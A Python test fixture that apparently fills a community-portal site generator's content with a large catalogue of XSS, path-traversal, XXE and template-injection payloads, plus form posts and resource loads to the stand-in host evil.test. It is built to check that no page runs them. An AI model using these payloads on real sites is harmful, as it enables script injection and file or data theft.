"""What somebody might try: each attempt by its name, where it is written, and with what words.

An attempt that runs calls `struck()`, one that fetches asks `evil.test`; both are watched for.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

UNIT = "qu/jie"
SECRET = "这一行只在内容文件夹外面。"
_RTL, _ZERO = "\u202e", "\u200b\u200d\ufeff"


@dataclass(frozen=True)
class Attempt:
    """`place` is what is written: a key of the entry, `body`, `unit.<key>`, `file`, or `slug`."""

    name: str
    place: str
    words: str

    @property
    def slug(self) -> str:
        return (
            self.words
            if self.place == "slug"
            else f"x-{self.name.replace('.', '-').replace(' ', '-').replace('_', '-')}"
        )

    @property
    def unit(self) -> str:
        return f"qu/{self.slug.lower()}" if self.place.startswith("unit.") else UNIT

    @property
    def page(self) -> str:
        """The page that would show it, from the site's root."""
        folder = (
            self.unit
            if self.place.startswith("unit.")
            else f"{UNIT}/{_KINDS.get(self.place, 'activities')}/{self.slug}"
        )
        return f"{folder}/index.html"


BODIES = {
    "script": "<script>struck()</script>",
    "script split": "<scr<script>ipt>struck()</scr</script>ipt>",
    "script upper": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "script slash": "<script/src=//evil.test/x.js></script>",
    "script data": "<script src='data:,struck()'></script>",
    "handler image": "<img src=a.jpg onload=struck()>",
    "handler breakout": '![x" onload="struck()](a.jpg)',
    "handler title": '![x](a.jpg "\\" onload=\\"struck()")',
    "handler details": "<details open ontoggle=struck()>甲</details>",
    "handler focus": "<a href=# autofocus tabindex=1 onfocus=struck()>甲</a>",
    "handler pointer": "<p onpointerenter=struck() onmouseover=struck()>甲</p>",
    "handler animation": "<b style=animation-name:x onanimationstart=struck()>甲</b>",
    "svg load": "<svg onload=struck()>",
    "svg slash": "<svg/onload=struck()//",
    "svg animate": "<svg><animate onbegin=struck() attributeName=x dur=1s>",
    "svg set": "<svg><a><set attributeName=href to=javascript:struck()><text y=20>甲</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>struck()</script></svg>#x'></use></svg>",
    "svg foreign": "<svg><foreignObject><iframe src=//evil.test/></foreignObject></svg>",
    "svg style": "<svg><style><img src=a.jpg onload=struck()></style></svg>",
    "math style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=a.jpg onload=struck()&gt;'>",
    "math link": "<math><maction actiontype=statusline xlink:href=javascript:struck()>甲</maction></math>",
    "math form": "<math><mtext></form><form><mglyph><style></math><img src=a.jpg onload=struck()>",
    "link javascript": "[甲](javascript:struck())",
    "link upper": "[甲](JaVaScRiPt:struck())",
    "link entity": "[甲](javascript&colon;struck())",
    "link number": '<a href="&#106;avascript:struck()">甲</a>',
    "link line end": '<a href="java&#10;script:struck()">甲</a>',
    "link control": '<a href=" &#14; javascript:struck()">甲</a>',
    "link data": "[甲](data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==)",
    "link blob": "[甲](blob:https://evil.test/1) [乙](filesystem:x) [丙](view-source:x) [丁](vbscript:struck())",
    "link reference": "[甲][r] [r]\n\n[r]: javascript:struck() 'x\" onclick=\"struck()'",
    "link automatic": "<javascript:struck()> <JAVASCRIPT:struck()>",
    "link attributes": "[甲](https://x.example){onclick=struck() target=_top ping=//evil.test/}",
    "link target": "<a href=https://x.example target=_blank rel=opener ping=https://evil.test/>甲</a>",
    "link spoof": "[https://www.gov.cn](https://www.gov.cn@x.example/)",
    "link nested": "[![x](javascript:struck())](javascript:struck())",
    "picture foreign": "![x](https://evil.test/x.png) <img src=//evil.test/y.png>",
    "picture srcset": '<img src=a.jpg srcset="//evil.test/x.png 2x" sizes=100vw>',
    "picture element": "<picture><source srcset=//evil.test/x.png><img src=a.jpg></picture>",
    "picture above": "![x](../../../../secret.jpg) ![y](/etc/passwd) ![z](file:///etc/passwd) ![w](%2e%2e/%2e%2e/%2e%2e/%2e%2e/secret.jpg)",
    "link above": "[甲](../../../../secret.jpg) [乙](file:///etc/passwd) [丙](..\\..\\..\\..\\secret.jpg)",
    "media": "<video src=//evil.test/v.mp4 autoplay onloadstart=struck()></video><audio src=//evil.test/a.mp3 autoplay>",
    "frame": "<iframe src=https://evil.test/></iframe><frameset><frame src=//evil.test/>",
    "frame source": '<iframe srcdoc="<script>parent.struck()</script>"></iframe>',
    "object": "<object data=//evil.test/x.swf></object><embed src=//evil.test/x.swf><applet code=x>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": "<base href=//evil.test/>",
    "stylesheet": "<link rel=stylesheet href=//evil.test/x.css><link rel=prefetch href=//evil.test/p>",
    "preconnect": "<link rel=preconnect href=//evil.test><link rel=dns-prefetch href=//evil.test>",
    "style": "<style>@import '//evil.test/x.css';body{display:none}</style>",
    "style attribute": '<p style="background:url(//evil.test/x.png);position:fixed;inset:0">甲</p>',
    "style escape": "<p style='back\\67 round:u\\72l(//evil.test/x.png)'>甲</p>",
    "style expression": '<td style="text-align: left; width: expression(struck())">甲</td>',
    "form": "<form action=//evil.test/><input name=id><button autofocus>交身份证号</button></form>",
    "form outside": "<button formaction=javascript:struck() form=search>甲</button><input type=image src=//evil.test/x.png>",
    "dialog": "<dialog open>请输密码</dialog><marquee onstart=struck()>甲</marquee>",
    "comment": "<!-- 没有收尾 <script>struck()</script>",
    "comment short": "<!--><img src=a.jpg onload=struck()>-->",
    "cdata": "<![CDATA[<script>struck()</script>]]>",
    "processing": "<?xml version='1.0'?><?php struck() ?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "template": "<template><script>struck()</script></template><slot onslotchange=struck()>",
    "noscript": '<noscript><p title="</noscript><img src=a.jpg onload=struck()>"></noscript>',
    "textarea": "<textarea><img src=a.jpg onload=struck()></textarea><title><img src=a.jpg onload=struck()></title>",
    "plaintext": "<xmp><img src=a.jpg onload=struck()></xmp><plaintext>",
    "closing": "</div></article></main></body></html><script>struck()</script>",
    "passing for ours": '<div id="leave" class="alarm" role="alertdialog" data-leave="go" data-to="x">紧急</div>',
    "clobbering": "<img name=body src=a.jpg><a id=documentElement name=location href=#x>甲</a><form name=querySelectorAll>",
    "admonition": '!!! alarm "<img src=a.jpg onload=struck()>"\n    <script>struck()</script>',
    "footnote": '甲[^"><script>struck()</script>]\n\n[^"><script>struck()</script>]: <img src=a.jpg onload=struck()>',
    "table": "| <script>struck()</script> | b |\n|:-:|--:|\n| <img src=a.jpg onload=struck()> | `<script>struck()</script>` |",
    "code": "    <script>struck()</script>\n\n```html\n<img src=a.jpg onload=struck()>\n```",
    "jinja": "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {{ site.policy }} {# 甲 #}",
    "jinja statement": "{% include '/etc/passwd' %} {# 甲 #} ${7*7} #{7*7} <%= 7*7 %>",
    "figure": "{{ figure('<script>struck()</script>') }}",
    "entity": "&lt;script&gt;struck()&lt;/script&gt; &#60;img src=a.jpg onload=struck()&#62; &amp;lt;script&amp;gt;",
    "overlong": "长" * 5000 + " " + "w" * 5000,
    "direction": f"{_RTL}tpircs{_RTL} {_ZERO}甲{_ZERO}",
    "controls": "甲\x00\x01\x08\x0b\x1b乙\ufffe",
    "markdown stub": "Z\x02wzxhzdk:0\x03Z \x02klzzwxh:0000\x03 \x02amp\x03",
    "depth": "> " * 200 + "甲\n\n" + "- " * 150 + "乙",
    "conversion": "繁體簡体<ſcript>struck()</ſcript> ＜script＞struck()＜/script＞ ‹img src=a.jpg onload=struck()›",
}
WORDS = {
    "script": "<script>struck()</script>",
    "handler": "<img src=x onerror=struck()>",
    "quote": "\"'><svg onload=struck()>",
    "jsonld": "</script><script>struck()//",
    "attribute": '" onfocus="struck()" autofocus="',
    "entity": "&lt;img src=x onerror=struck()&gt;",
    "jinja": "{{ 7*7 }}{% raw %}{{ site }}",
    "xml": "]]>&<!--甲-->'\"<?x?>",
    "controls": "甲\x01\x0b乙",
    "direction": f"甲\u2028{_RTL}gpj.exe{_ZERO}乙",
    "short": "\"'><svg>",
    "short entity": "</b>&lt;b&gt;",
    "mark": "|<b|r>|\u200b<i>|",
}
_KINDS = {
    **dict.fromkeys(("audio", "speaker", "speaker_role", "quote", "key_points", "theme"), "talks"),
    **dict.fromkeys(("people.display_name", "people.deeds", "people.team", "award", "period"), "honours"),
    **dict.fromkeys(("display_name", "motto", "building"), "families"),
    **dict.fromkeys(("contact",), "notices"),
}
# Each place with some of the words: all of them where browsers read a text in more than one way.
PLACES = {
    "title": tuple(WORDS),
    "summary": tuple(WORDS),
    "screen_title": ("script", "mark"),
    "photos.caption": ("script", "handler", "quote", "attribute", "jsonld", "direction"),
    "photos.alt": ("script", "handler", "quote", "attribute", "entity", "jinja"),
    "photos.photographer": ("script", "attribute"),
    "photos.focus": ("attribute",),
    "venue": ("script", "quote", "jsonld", "xml"),
    "organiser": ("handler", "jsonld"),
    "series": ("short", "xml"),
    "type": ("script", "short", "short entity"),
    "outcome": ("handler",),
    "campaigns": ("script",),
    "topics": ("quote",),
    "byline.reporters": ("script", "attribute", "xml"),
    "source.name": ("script", "quote", "jsonld", "xml"),
    "speaker": ("short", "short entity"),
    "speaker_role": ("handler",),
    "theme": ("short", "short entity"),
    "quote": ("script", "attribute", "mark"),
    "key_points": ("handler", "entity"),
    "people.display_name": ("short", "short entity"),
    "people.deeds": ("handler", "attribute"),
    "people.team": ("short",),
    "award": ("short", "xml"),
    "display_name": ("handler", "quote"),
    "motto": ("script", "mark"),
    "contact": ("script", "attribute"),
    "unit.name": ("script", "short", "short entity", "xml"),
    "unit.short_name": ("short", "short entity"),
    "unit.slogan": ("script", "mark"),
    "unit.address": ("handler",),
    "unit.phone": ("attribute",),
    "unit.grid": ("script",),
    "unit.site": ("quote",),
    "unit.figure.label": ("script", "jinja"),
    "unit.figure.unit": ("handler",),
    "unit.figure.source": ("quote",),
}
ADDRESSES = {
    "javascript": "javascript:struck()",
    "data": "data:text/html,<script>struck()</script>",
    "breakout": 'https://x.example/"onfocus="struck()"autofocus="',
    "script": "https://x.example/</script><script>struck()</script>",
    "userinfo": "https://www.gov.cn@x.example/",
    "backslash": "https://x.example\\@www.gov.cn/",
    "line end": "https://x.example/\njavascript:struck()",
}
FILES = {
    "handler": "'onerror=struck() x='.jpg",
    "quote": '"><svg onload=struck()>.jpg',
    "entity": "&quot;&lt;script&gt;.jpg",
    "percent": "%3Cscript%3E%22.jpg",
    "css": "a');background:url(x.jpg",
    "jinja": "{{ 7*7 }}.jpg",
    "srcset": "a.jpg 2x, b.jpg",
    "direction": f"a{_RTL}gpj.jpg",
    "above": "../../../../secret.jpg",
    "absolute": "/etc/passwd",
    "encoded": "..%2f..%2f..%2f..%2fsecret.jpg",
    "backslash": "..\\..\\..\\..\\secret.jpg",
}
MEDIA = {
    "above": "../../../../secret.mp3",
    "quote": '"><svg onload=struck()>.mp3',
    "address": "https://evil.test/a.mp3",
}
SLUGS = {
    "markup": "2026-<b>x",
    "quote": 'x"onload=struck()',
    "space": "x y",
    "dots": "a..x",
    "percent": "%2e%2e",
    "reserved": "index",
    "chinese": "二零二六",
    "jinja": "{{7*7}}",
}


def attempts() -> Iterator[Attempt]:
    yield from (Attempt(f"body.{name}", "body", words) for name, words in BODIES.items())
    for place, names in PLACES.items():
        yield from (Attempt(f"{place}.{name}", place, WORDS[name]) for name in names)
    for place in ("source.url", "signup"):
        yield from (Attempt(f"{place}.{name}", place, words) for name, words in ADDRESSES.items())
    yield from (Attempt(f"file.{name}", "file", words) for name, words in FILES.items())
    yield from (Attempt(f"audio.{name}", "audio", words) for name, words in MEDIA.items())
    yield from (Attempt(f"slug.{name}", "slug", words) for name, words in SLUGS.items())


ATTEMPTS = tuple(attempts())


def write(root: Path) -> Path:
    """A content folder below `root` that holds every attempt, and beside it a file that no page may show."""
    content = root / "content"
    _save(content / "site.yml", _matter(_PORTAL))
    _save(content / "qu/district.yml", _matter({"name": "试区"}))
    _save(content / "qu/jie/street.yml", _matter({"name": "试街道"}))
    Image.new("RGB", (8, 8), (200, 30, 30)).save(root / "secret.jpg", comment=SECRET.encode())
    (root / "secret.mp3").write_bytes(b"ID3" + SECRET.encode())
    for attempt in ATTEMPTS:
        if attempt.place.startswith("unit."):
            _write_unit(content, attempt)
        else:
            _write_entry(content, attempt)
    return content


_PORTAL = {
    "name": "试站",
    "owner": "试站",
    "domain": "https://own.example/web/",
    "icp": "示例ICP备1号",
    "report_phones": ["12345"],
}


def _write_unit(content: Path, attempt: Attempt) -> None:
    key = attempt.place.partition(".")[2]
    told: dict[str, object] = {"name": f"试{attempt.slug[-6:]}"}
    if key == "grid":
        told["grids"] = [{"name": attempt.words, "boundary": attempt.words, "lead": attempt.words}]
    elif key == "site":
        told["sites"] = [{"name": attempt.words, "address": attempt.words, "hours": attempt.words}]
    elif key.startswith("figure"):
        row = {"key": "x", "label": "数", "value": 8, "unit": "个", "as_of": "2026-01-01", "source": "台账"}
        row[key.rpartition(".")[2]] = attempt.words
        _save(content / attempt.unit / "figures.yml", _matter([row]))
    else:
        told[key] = attempt.words
    _save(content / attempt.unit / "community.yml", _matter(told))
    _save(content / attempt.unit / "notices" / "x.md", _entry("notices", {"title": attempt.name}, "正文。"))


def _write_entry(content: Path, attempt: Attempt) -> None:
    kind = _KINDS.get(attempt.place, "activities")
    folder = content / UNIT / kind / attempt.slug
    told: dict[str, object] = {"title": attempt.name[:40]}
    body = attempt.words if attempt.place == "body" else "正文。"
    photo: dict[str, object] = {"file": "a.jpg", "caption": "图"}
    if attempt.place == "file":
        photo["file"] = attempt.words
    elif attempt.place.startswith("photos."):
        photo[attempt.place.partition(".")[2]] = attempt.words
    elif attempt.place not in ("body", "slug"):
        told |= _field(attempt)
    folder.mkdir(parents=True, exist_ok=True)
    for name in {"a.jpg", str(photo["file"])}:
        if "/" not in name:
            Image.new("RGB", (96, 72), (30, 90, 60)).save(folder / name, "JPEG")
    _save(folder / "index.md", _entry(kind, {"photos": [photo], **told}, body))


def _field(attempt: Attempt) -> dict[str, object]:
    """The key as an entry writes it, within what it belongs to."""
    whole, _, part = attempt.place.partition(".")
    if whole == "people":
        return {"people": [{"display_name": "周某", "hours": 120, "consent": True, part: attempt.words}]}
    if whole == "source":
        return {"source": {"name": "晚报", "kind": "转载", part: attempt.words}}
    if whole in ("key_points", "campaigns", "topics"):
        return {whole: [attempt.words]}
    return {whole: {part: [attempt.words]} if whole == "byline" else attempt.words}


_NEEDED: dict[str, dict[str, object]] = {
    "activities": {"type": "文体", "start_at": "2026-04-18 09:00", "venue": "广场", "organiser": "居委会"},
    "talks": {
        "theme": "文明",
        "speaker": "周某",
        "speaker_role": "书记",
        "held_at": "2026-04-10 18:30",
        "venue": "广场",
        "quote": "门前扫净。",
    },
    "honours": {"award": "志愿之星", "year": 2026, "people": [{"display_name": "周某", "hours": 120, "consent": True}]},
    "families": {"category": "文明家庭", "display_name": "马家", "year": 2026, "consent": True},
    "notices": {"category": "通知", "effective_from": "2026-04-14"},
}


def _entry(kind: str, told: dict[str, object], body: str) -> str:
    common = {"status": "published", "publish_on": "2026-04-10", "surfaces": ["site"]}
    return f"---\n{_matter({**common, **_NEEDED[kind], **told})}---\n{body}\n"


def _matter(told: object) -> str:
    """JSON, which YAML reads as it stands, whatever the words are; a key a line, as staff write."""
    if isinstance(told, dict):
        return "".join(f"{key}: {json.dumps(value)}\n" for key, value in told.items())
    return json.dumps(told) + "\n"


def _save(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8", newline="\n")
